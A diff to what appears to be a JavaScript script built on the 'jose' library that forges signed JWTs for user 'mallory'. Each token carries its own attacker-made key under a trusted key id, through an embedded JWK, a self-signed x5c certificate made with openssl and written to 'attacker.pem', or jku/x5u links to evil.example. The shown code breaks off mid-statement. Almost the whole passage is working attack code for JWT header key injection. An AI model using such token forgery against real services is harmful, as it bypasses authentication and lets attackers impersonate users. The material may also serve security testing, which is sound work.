@@ -1,10 +1,14 @@
 // Tokens that bring their key along, under the kid of a key that is trusted.
-import { SignJWT, exportJWK, generateKeyPair } from 'jose';
+import { SignJWT, exportJWK, exportPKCS8, generateKeyPair } from 'jose';
+import { execFileSync } from 'node:child_process';
+import { writeFileSync } from 'node:fs';
 
-const { publicKey, privateKey } = await generateKeyPair('RS256');
+const { publicKey, privateKey } = await generateKeyPair('RS256', { extractable: true });
+writeFileSync('attacker.pem', await exportPKCS8(privateKey));
+const certificate = execFileSync('openssl', ['req', '-x509', '-new', '-key', 'attacker.pem', '-subj', '/CN=jose.example', '-days', '1', '-outform', 'DER']);
 for (const member of [
   { jwk: { ...await exportJWK(publicKey), alg: 'RS256' } },
-  { x5c: ['MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA'] },
+  { x5c: [certificate.toString('base64')] },
   { jku: 'https://evil.example/jwks.json', x5u: 'https://evil.example/cert.pem' },
 ]) {
   console.log(await new SignJWT({ sub: 'mallory' })
